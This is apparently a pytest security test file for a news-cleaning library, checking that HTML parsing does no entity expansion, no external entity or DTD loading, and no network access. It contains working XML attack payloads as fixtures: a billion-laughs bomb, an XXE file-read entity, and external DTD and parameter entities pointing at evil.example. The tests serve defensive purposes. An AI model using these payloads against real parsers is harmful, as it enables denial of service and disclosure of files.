"""HTML parsing is safe: no entity expansion, no external entity or DTD loading, no network at all."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest

import newsclean
from newsclean.errors import InputError

URL = "https://news.example/2024/story"
PROSE = "The council approved the budget on Tuesday after a long debate about school funding."


class NetworkUsedError(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Make every socket operation fail loudly and record the attempt.

    The HTML libraries are imported first: urllib3 (imported by trafilatura) opens a local AF_INET6
    socket at import time to probe for IPv6 support, which is not network access by the cleaning.
    """
    import trafilatura  # noqa: F401

    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args))
        raise NetworkUsedError(f"network access attempted: {args!r}")

    class NoSocket(socket.socket):
        def __init__(self, *args: object, **kwargs: object) -> None:
            refuse(*args)

    monkeypatch.setattr(socket, "socket", NoSocket)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def _clean(page: str | bytes) -> newsclean.Article | None:
    try:
        return newsclean.clean(page, url=URL)
    except InputError as exc:
        assert URL in str(exc)
        return None


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE html [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<html><head><title>Laughs</title></head><body><p>&lol9;</p><p>{PROSE}</p></body></html>
"""


def _xxe(target: str) -> str:
    return f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html [ <!ENTITY xxe SYSTEM "{target}"> ]>
<html><body><p>&xxe;</p><p>{PROSE}</p></body></html>
"""


EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE html PUBLIC "-//EVIL//DTD XHTML//EN" "http://evil.example/evil.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{PROSE}</p></body></html>
"""

PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE html [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
<html><body><p>{PROSE}</p></body></html>
"""


def test_entity_expansion_bomb_is_not_expanded(no_network: list[str]) -> None:
    started = time.perf_counter()
    article = _clean(BILLION_LAUGHS)
    assert time.perf_counter() - started < 5
    assert not no_network
    if article is not None:
        assert PROSE in article.paragraphs
        assert all("lollollol" not in p for p in article.paragraphs)
        assert all(len(p) < 10_000 for p in article.paragraphs)


def test_external_entity_is_not_read_from_a_file(no_network: list[str], tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    article = _clean(_xxe(secret.as_uri()))
    assert not no_network
    if article is not None:
        assert "TOP-SECRET-CONTENT" not in article.model_dump_json()


@pytest.mark.parametrize(
    "page",
    [_xxe("http://evil.example/secret"), EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe-http", "external-dtd", "parameter-entity"],
)
def test_external_entities_and_dtds_are_not_fetched(no_network: list[str], page: str) -> None:
    article = _clean(page)
    assert not no_network, "the parser tried to open a connection"
    if article is not None:
        assert PROSE in article.paragraphs


def test_a_normal_page_cleans_with_sockets_disabled(no_network: list[str]) -> None:
    page = (
        "<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>Budget passes | The Daily</title>"
        "<meta property='og:site_name' content='The Daily'>"
        "<link rel='stylesheet' href='https://cdn.example/style.css'>"
        "<script src='https://cdn.example/app.js'></script></head><body>"
        "<nav><a href='/'>Home</a><a href='/world'>World</a></nav>"
        "<article><h1>Budget passes</h1><p>By Jane Doe</p>"
        "<img src='https://images.example/photo.jpg'><figcaption>The council chamber.</figcaption>"
        f"<p>{PROSE}</p><p>Residents said the new bridge would cut their commute by almost half an hour.</p>"
        "<p>Advertisement</p></article></body></html>"
    )
    article = newsclean.clean(page, url=URL)
    assert not no_network
    assert PROSE in article.paragraphs
    assert article.title == "Budget passes"


def test_a_text_dump_and_bytes_clean_with_sockets_disabled(no_network: list[str]) -> None:
    dump = f"Budget passes\n\nBy Jane Doe\n\n{PROSE}\n\nAdvertisement"
    assert PROSE in newsclean.clean(dump, url=URL).paragraphs
    assert PROSE in newsclean.clean(dump.encode("utf-16"), url=URL).paragraphs
    assert not no_network
